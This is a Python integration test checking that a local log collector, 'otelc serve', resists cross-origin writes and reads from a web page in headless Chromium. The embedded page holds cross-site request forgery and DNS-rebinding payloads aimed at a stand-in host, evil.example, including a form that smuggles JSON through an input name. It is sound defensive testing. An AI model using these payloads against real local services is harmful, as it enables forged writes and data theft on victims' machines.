#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""A web page on another origin, in headless Chromium, can neither write to `otelc serve` nor read from it.

The same page meets a server that ignores Origin: there it can do both, so its attempts are real. Skipped (77) without
Chromium: Debian's package is too large for every CI run.
"""
import json
import shutil
import subprocess
import sys
import tempfile
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import otelc_harness as otelc

PAGE = """<!doctype html><meta charset=utf-8><title>another origin</title><body><script>
const bases = %s, log = %s, seen = {};
const attempts = {
  'fetch JSON': url => fetch(url + '/v1/logs', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: log}),
  'fetch text/plain': url => fetch(url + '/v1/logs', {method: 'POST', body: log}),
  'fetch no-cors': url => fetch(url + '/v1/logs', {method: 'POST', mode: 'no-cors', body: log}),
  'fetch no-cors blob': url => fetch(url + '/v1/logs', {method: 'POST', mode: 'no-cors', body: new Blob([log])}),
  'XHR': url => new Promise((yes, no) => {
    const x = new XMLHttpRequest(); x.open('POST', url + '/v1/logs'); x.onload = () => yes(new Response(x.responseText));
    x.onerror = no; x.send(log); }),
  'beacon': async url => { navigator.sendBeacon(url + '/v1/logs', new Blob([log])); },
  'form': url => new Promise(yes => {
    const frame = document.createElement('iframe'); frame.name = 'f' + Math.random(); document.body.append(frame);
    const form = document.createElement('form'); form.action = url + '/v1/logs'; form.method = 'POST';
    form.enctype = 'text/plain'; form.target = frame.name;
    const input = document.createElement('input'); input.name = log.slice(0, -1) + ',"x":"'; input.value = '"}';
    form.append(input); document.body.append(form); frame.onload = () => yes(); form.submit(); }),
  'read /healthz': url => fetch(url + '/healthz'),
  'read /v1/logs': url => fetch(url + '/v1/logs'),
  'read /': url => fetch(url + '/'),
  'script': url => new Promise((yes, no) => {
    const s = document.createElement('script'); s.src = url + '/healthz'; s.onload = () => yes(); s.onerror = no; document.body.append(s); }),
};
(async () => {
  for (const [who, base] of Object.entries(bases)) for (const [name, attempt] of Object.entries(attempts)) {
    let text = null;
    try {
      const answer = await Promise.race([attempt(base), new Promise((_, no) => setTimeout(no, 5000))]);
      if (answer && answer.type !== 'opaque') text = answer.status + ' ' + await answer.text();
    } catch (error) {}
    (seen[who] ||= {})[name] = text;
  }
  await fetch('/report', {method: 'POST', body: JSON.stringify(seen)});
})();
</script>"""
LOG = '{"resourceLogs":[{"scopeLogs":[{"logRecords":[{"body":{"stringValue":"forged"}}]}]}]}'


class Quiet(BaseHTTPRequestHandler):
    def answer(self, body, content_type, **fields):
        self.send_response(200)
        for name, value in {"Content-Type": content_type, "Content-Length": str(len(body)), **fields}.items():
            self.send_header(name.replace("_", "-"), value)
        self.end_headers()
        self.wfile.write(body)

    def body(self):
        return self.rfile.read(int(self.headers.get("Content-Length", 0)))

    def log_message(self, *_):
        pass


def serve_in_thread(handler):
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


class Naive(Quiet):
    """Accepts everything from everybody, as collectors with `cors: "*"` do."""
    bodies = []

    def do_POST(self):
        self.bodies.append(self.body())
        self.answer(b"{}", "application/json", Access_Control_Allow_Origin="*")

    def do_GET(self):
        self.answer(b"1", "text/javascript", Access_Control_Allow_Origin="*")

    def do_OPTIONS(self):
        self.answer(b"", "text/plain", Access_Control_Allow_Origin="*", Access_Control_Allow_Headers="*")


class Page(Quiet):
    html, report, reported = b"", None, threading.Event()

    def do_GET(self):
        self.answer(self.html, "text/html")

    def do_POST(self):
        Page.report = json.loads(self.body())
        self.answer(b"", "text/plain")
        self.reported.set()


def browse(chromium, url):
    with tempfile.TemporaryDirectory(prefix="otelc-chromium-", ignore_cleanup_errors=True) as profile:
        # Names that a page's owner may point at 127.0.0.1 (DNS rebinding).
        command = [chromium, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
                   "--host-resolver-rules=MAP evil.example 127.0.0.1", f"--user-data-dir={profile}",
                   "--remote-debugging-port=0", url]
        process = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            assert Page.reported.wait(otelc.DEADLINE_S * 3), "the page did not report"
        finally:
            process.terminate()
            process.wait(otelc.DEADLINE_S)


def main():
    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
    if chromium is None:
        print("SKIP: Chromium is not installed")
        sys.exit(otelc.SKIP)
    naive, page = serve_in_thread(Naive), serve_in_thread(Page)
    with otelc.Serve("--durability", "os") as serve:
        assert serve.post("/v1/logs", LOG, content_type="application/json")[0] == 200
        before = len(serve.records())
        bases = {"naive": f"http://127.0.0.1:{naive.server_port}", "otelc by address": serve.url,
                 "otelc by localhost": f"http://localhost:{serve.port}", "otelc by a name of theirs": f"http://evil.example:{serve.port}"}
        Page.html = (PAGE % (json.dumps(bases), json.dumps(LOG))).encode()
        browse(chromium, f"http://evil.example:{page.server_port}/")
        report = Page.report
        for name in report["naive"]:
            print(f"{name:<20}", *(f"{who}: {answers[name]!r}" for who, answers in report.items()), sep="  ")
        # The attempts are real: the permissive server is written to in seven ways, and read from.
        assert len(Naive.bodies) >= 7, f"only {len(Naive.bodies)} writes arrived at the naive server"
        readable = {"fetch JSON", "fetch text/plain", "XHR", "read /healthz", "read /v1/logs", "read /"}
        assert {name for name, text in report["naive"].items() if text} == readable, report["naive"]
        # ... and otelc is not.
        for who, answers in report.items():
            assert who == "naive" or not any(answers.values()), f"{who}: {answers}"
        records = serve.records()
        assert len(records) == before, f"a page wrote into the log: {records[before:]}"
        assert serve.post("/v1/logs", LOG, content_type="application/json")[0] == 200
    for server in (naive, page):
        server.shutdown()


if __name__ == "__main__":
    main()
